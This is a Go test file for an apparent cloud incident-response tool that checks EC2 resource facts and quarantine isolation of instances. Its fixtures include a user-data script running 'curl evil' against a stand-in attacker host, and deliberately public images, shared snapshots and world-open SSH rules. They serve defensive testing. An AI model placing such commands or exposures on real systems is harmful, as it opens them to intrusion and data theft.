package kinds

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"reflect"
	"slices"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	"github.com/aws/aws-sdk-go-v2/service/ec2/types"

	"cordon/internal/fact"
	"cordon/internal/kind"
	"cordon/internal/kind/kindtest"
)

const (
	here     = "eu-west-1"
	stranger = "444455556666"
)

func runOne(t *testing.T, w kindtest.World) string {
	t.Helper()
	out := must[*ec2.RunInstancesOutput](t)(ec2.NewFromConfig(w.Config(here)).RunInstances(t.Context(), &ec2.RunInstancesInput{
		ImageId: aws.String("ami-12c6146b"), InstanceType: types.InstanceTypeM5Large, MinCount: aws.Int32(1), MaxCount: aws.Int32(1),
		UserData: aws.String(base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl evil"))),
	}))
	return aws.ToString(out.Instances[0].InstanceId)
}

func protectedOne(t *testing.T, w kindtest.World) string {
	t.Helper()
	id := runOne(t, w)
	must[*ec2.ModifyInstanceAttributeOutput](t)(ec2.NewFromConfig(w.Config(here)).ModifyInstanceAttribute(t.Context(), &ec2.ModifyInstanceAttributeInput{
		InstanceId: &id, DisableApiStop: &types.AttributeBooleanValue{Value: aws.Bool(true)},
	}))
	return id
}

func TestInstance(t *testing.T) {
	kindtest.Run(t, kindtest.Case[instanceReader, instanceWriter]{
		Spec: instanceSpec, Region: here, Setup: runOne,
		Verbs: map[string]func(*testing.T, kindtest.World) string{"allow-stop": protectedOne},
	})
}

func TestInstanceFacts(t *testing.T) {
	w := kindtest.NewWorld(t)
	id := protectedOne(t, w)
	r := listed(t, w, instance, id)
	if p, known := fact.Protections.Get(r); !known || !slices.Equal(p, []string{"stop"}) {
		t.Errorf("protections %v, %v", p, known)
	}
	if has, known := fact.UserData.Get(r); !known || !has {
		t.Errorf("user data %v, %v", has, known)
	}
	if state := fact.RunState.Or(r, ""); state != "running" {
		t.Errorf("state %q", state)
	}
	if _, known := fact.InstanceStore.Get(r); known {
		t.Error("DescribeInstances cannot tell that there is no instance store")
	}
	if r.ARN != "arn:aws:ec2:eu-west-1:"+kindtest.Account+":instance/"+id || r.Created.IsZero() {
		t.Errorf("%s made %v", r.ARN, r.Created)
	}
	held := instance.Holds(r)
	if len(held) != len(fact.Volumes.Or(r, nil))+len(fact.SecurityGroups.Or(r, nil)) || len(held) == 0 {
		t.Errorf("holds %v", held)
	}
}

func TestTerminatedInstancesAreListed(t *testing.T) {
	w := kindtest.NewWorld(t)
	id := runOne(t, w)
	must[*ec2.TerminateInstancesOutput](t)(ec2.NewFromConfig(w.Config(here)).TerminateInstances(t.Context(), &ec2.TerminateInstancesInput{InstanceIds: []string{id}}))
	r := listed(t, w, instance, id)
	if state := fact.RunState.Or(r, ""); state != "terminated" {
		t.Errorf("state %q", state)
	}
	if held := instance.Holds(r); held != nil {
		t.Errorf("holds %v", held)
	}
}

// An intruder who filled cordon's isolation group, or made it first, does not
// escape it.
func TestIsolateEmptiesTheGroupItFinds(t *testing.T) {
	w, ctx := kindtest.NewWorld(t), t.Context()
	api := ec2.NewFromConfig(w.Config(here))
	id := runOne(t, w)
	r := listed(t, w, instance, id)
	vpc := fact.VPC.Or(r, "")
	trap := must[*ec2.CreateSecurityGroupOutput](t)(api.CreateSecurityGroup(ctx, &ec2.CreateSecurityGroupInput{
		GroupName: aws.String(isolationName(vpc)), Description: aws.String("trap"), VpcId: &vpc,
	}))
	must[*ec2.AuthorizeSecurityGroupIngressOutput](t)(api.AuthorizeSecurityGroupIngress(ctx, &ec2.AuthorizeSecurityGroupIngressInput{
		GroupId: trap.GroupId, IpPermissions: []types.IpPermission{openRule{Protocol: "tcp", From: aws.Int32(22), To: aws.Int32(22), CIDR: "0.0.0.0/0"}.permission()},
	}))
	prior := must[json.RawMessage](t)(isolate.Prior(ctx, api, r))
	job := kind.Job{Resource: r, Case: "C-20260101-A"}
	if err := isolate.Do(ctx, api, job, prior); err != nil {
		t.Fatal(err)
	}
	if done, err := isolate.Done(ctx, api, job); err != nil || !done {
		t.Fatalf("done = %v, %v", done, err)
	}
	must[*ec2.AuthorizeSecurityGroupIngressOutput](t)(api.AuthorizeSecurityGroupIngress(ctx, &ec2.AuthorizeSecurityGroupIngressInput{
		GroupId: trap.GroupId, IpPermissions: []types.IpPermission{openRule{Protocol: "-1", CIDR: "0.0.0.0/0"}.permission()},
	}))
	if done, err := isolate.Done(ctx, api, job); err != nil || done {
		t.Fatalf("a filled group isolates: done = %v, %v", done, err)
	}
}

// The group goes with the last instance that needs it.
func TestIsolationGroupIsShared(t *testing.T) {
	w, ctx := kindtest.NewWorld(t), t.Context()
	api := ec2.NewFromConfig(w.Config(here))
	var jobs []kind.Job
	var priors []json.RawMessage
	for range 2 {
		r := listed(t, w, instance, runOne(t, w))
		j := kind.Job{Resource: r, Case: "C-20260101-A"}
		p := must[json.RawMessage](t)(isolate.Prior(ctx, api, r))
		if err := isolate.Do(ctx, api, j, p); err != nil {
			t.Fatal(err)
		}
		jobs, priors = append(jobs, j), append(priors, p)
	}
	vpc := fact.VPC.Or(jobs[0].Resource, "")
	for i, j := range jobs {
		if err := isolate.Undo(ctx, api, j, priors[i]); err != nil {
			t.Fatal(err)
		}
		_, found, err := isolationGroup(ctx, api, vpc)
		if last := i == len(jobs)-1; err != nil || found == last {
			t.Errorf("after undo %d the group is there: %v, %v", i, found, err)
		}
	}
}

func makeImage(t *testing.T, w kindtest.World) string {
	t.Helper()
	api, id := ec2.NewFromConfig(w.Config(here)), runOne(t, w)
	out := must[*ec2.CreateImageOutput](t)(api.CreateImage(t.Context(), &ec2.CreateImageInput{InstanceId: &id, Name: aws.String("golden")}))
	must[*ec2.ModifyImageAttributeOutput](t)(api.ModifyImageAttribute(t.Context(), &ec2.ModifyImageAttributeInput{
		ImageId: out.ImageId, LaunchPermission: &types.LaunchPermissionModifications{Add: launchPermissions([]grant{{User: stranger}, {Group: "all"}})},
	}))
	return aws.ToString(out.ImageId)
}

func TestImage(t *testing.T) {
	kindtest.Run(t, kindtest.Case[imageReader, imageWriter]{Spec: imageSpec, Region: here, Setup: makeImage})
}

func TestImageFacts(t *testing.T) {
	w := kindtest.NewWorld(t)
	r := listed(t, w, image, makeImage(t, w))
	wantSharing(t, r, true, stranger)
	if name := fact.Name.Or(r, ""); name != "golden" || r.Created.IsZero() {
		t.Errorf("name %q, made %v", name, r.Created)
	}
	if held := image.Holds(r); len(held) == 0 {
		t.Error("an image holds its snapshots")
	}
}

func makeVolume(t *testing.T, w kindtest.World) string {
	t.Helper()
	out := must[*ec2.CreateVolumeOutput](t)(ec2.NewFromConfig(w.Config(here)).CreateVolume(t.Context(), &ec2.CreateVolumeInput{
		AvailabilityZone: aws.String(here + "a"), Size: aws.Int32(8), Encrypted: aws.Bool(true),
	}))
	return aws.ToString(out.VolumeId)
}

func TestVolume(t *testing.T) {
	kindtest.Run(t, kindtest.Case[volumeReader, noWriter]{Spec: volumeSpec, Region: here, Setup: makeVolume})
}

func TestVolumeFacts(t *testing.T) {
	w := kindtest.NewWorld(t)
	r := listed(t, w, volume, makeVolume(t, w))
	if on, known := fact.AttachedTo.Get(r); !known || on != "" || !fact.Encrypted.Or(r, false) || fact.Status.Or(r, "") != "available" {
		t.Errorf("%s", r.Facts)
	}
	id := runOne(t, w)
	disk := fact.Volumes.Or(listed(t, w, instance, id), nil)
	if on := fact.AttachedTo.Or(listed(t, w, volume, disk[0]), ""); on != id {
		t.Errorf("attached to %q, not %q", on, id)
	}
}

func makeSnapshot(t *testing.T, w kindtest.World) string {
	t.Helper()
	api, volume := ec2.NewFromConfig(w.Config(here)), makeVolume(t, w)
	out := must[*ec2.CreateSnapshotOutput](t)(api.CreateSnapshot(t.Context(), &ec2.CreateSnapshotInput{VolumeId: &volume}))
	must[*ec2.ModifySnapshotAttributeOutput](t)(api.ModifySnapshotAttribute(t.Context(), &ec2.ModifySnapshotAttributeInput{
		SnapshotId: out.SnapshotId, Attribute: types.SnapshotAttributeNameCreateVolumePermission,
		CreateVolumePermission: &types.CreateVolumePermissionModifications{Add: volumePermissions([]grant{{User: stranger}})},
	}))
	return aws.ToString(out.SnapshotId)
}

func TestSnapshot(t *testing.T) {
	kindtest.Run(t, kindtest.Case[snapshotReader, snapshotWriter]{Spec: snapshotSpec, Region: here, Setup: makeSnapshot})
}

func TestSnapshotFacts(t *testing.T) {
	w := kindtest.NewWorld(t)
	wantSharing(t, listed(t, w, snapshot, makeSnapshot(t, w)), false, stranger)
}

func makeKeyPair(t *testing.T, w kindtest.World) string {
	t.Helper()
	out := must[*ec2.CreateKeyPairOutput](t)(ec2.NewFromConfig(w.Config(here)).CreateKeyPair(t.Context(), &ec2.CreateKeyPairInput{KeyName: aws.String("ops")}))
	return aws.ToString(out.KeyPairId)
}

func TestKeyPair(t *testing.T) {
	kindtest.Run(t, kindtest.Case[keyPairReader, noWriter]{Spec: keyPairSpec, Region: here, Setup: makeKeyPair})
}

func makeSecurityGroup(t *testing.T, w kindtest.World) string {
	t.Helper()
	api := ec2.NewFromConfig(w.Config(here))
	out := must[*ec2.CreateSecurityGroupOutput](t)(api.CreateSecurityGroup(t.Context(), &ec2.CreateSecurityGroupInput{
		GroupName: aws.String("web"), Description: aws.String("web"),
	}))
	must[*ec2.AuthorizeSecurityGroupIngressOutput](t)(api.AuthorizeSecurityGroupIngress(t.Context(), &ec2.AuthorizeSecurityGroupIngressInput{
		GroupId: out.GroupId, IpPermissions: []types.IpPermission{
			openRule{Protocol: "tcp", From: aws.Int32(22), To: aws.Int32(22), CIDR: "0.0.0.0/0", Description: aws.String("ssh")}.permission(),
			openRule{Protocol: "tcp", From: aws.Int32(22), To: aws.Int32(22), CIDR: "::/0"}.permission(),
			openRule{Protocol: "-1", CIDR: "0.0.0.0/0"}.permission(),
			{IpProtocol: aws.String("tcp"), FromPort: aws.Int32(443), ToPort: aws.Int32(443), IpRanges: []types.IpRange{{CidrIp: aws.String("10.0.0.0/8")}}},
		},
	}))
	return aws.ToString(out.GroupId)
}

func TestSecurityGroup(t *testing.T) {
	kindtest.Run(t, kindtest.Case[securityGroupReader, securityGroupWriter]{Spec: securityGroupSpec, Region: here, Setup: makeSecurityGroup})
}

func TestSecurityGroupFacts(t *testing.T) {
	w := kindtest.NewWorld(t)
	got := fact.Openings.Or(listed(t, w, securityGroup, makeSecurityGroup(t, w)), nil)
	want := []fact.Opening{
		{Protocol: "-1", From: -1, To: -1, CIDR: "0.0.0.0/0"},
		{Protocol: "tcp", From: 22, To: 22, CIDR: "0.0.0.0/0"},
		{Protocol: "tcp", From: 22, To: 22, CIDR: "::/0"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("openings %v, want %v", got, want)
	}
}

func TestGrants(t *testing.T) {
	org := "arn:aws:organizations::1:organization/o-1"
	got := launchGrants([]types.LaunchPermission{
		{OrganizationArn: &org}, {UserId: aws.String("222")}, {UserId: aws.String("111")}, {Group: types.PermissionGroupAll},
	}, "111")
	if want := []grant{{Org: org}, {User: "222"}, {Group: "all"}}; !reflect.DeepEqual(got, want) {
		t.Errorf("grants %v, want %v", got, want)
	}
	if back := launchPermissions(got); len(back) != 3 || back[0].UserId != nil || aws.ToString(back[1].UserId) != "222" {
		t.Errorf("back %v", back)
	}
	var r fact.Resource
	setSharing(&r, got)
	wantSharing(t, r, true, org, "222")
}

// listed is the one resource with this id among all that the kind lists.
func listed(t *testing.T, w kindtest.World, k kind.Kind, id string) (r fact.Resource) {
	t.Helper()
	found := 0
	err := k.List(context.Background(), w.Config(here), fact.Place{Account: kindtest.Account, Region: here}, func(one fact.Resource) {
		if one.ID == id {
			r = one
			found++
		}
	})
	if err != nil || found != 1 {
		t.Fatalf("%s %s is listed %d times, %v", k.Name(), id, found, err)
	}
	return r
}

func wantSharing(t *testing.T, r fact.Resource, public bool, with ...string) {
	t.Helper()
	if is, known := fact.Public.Get(r); !known || is != public {
		t.Errorf("public = %v, %v; want %v", is, known, public)
	}
	if got, known := fact.SharedWith.Get(r); !known || !slices.Equal(got, with) {
		t.Errorf("shared with %v, %v; want %v", got, known, with)
	}
}
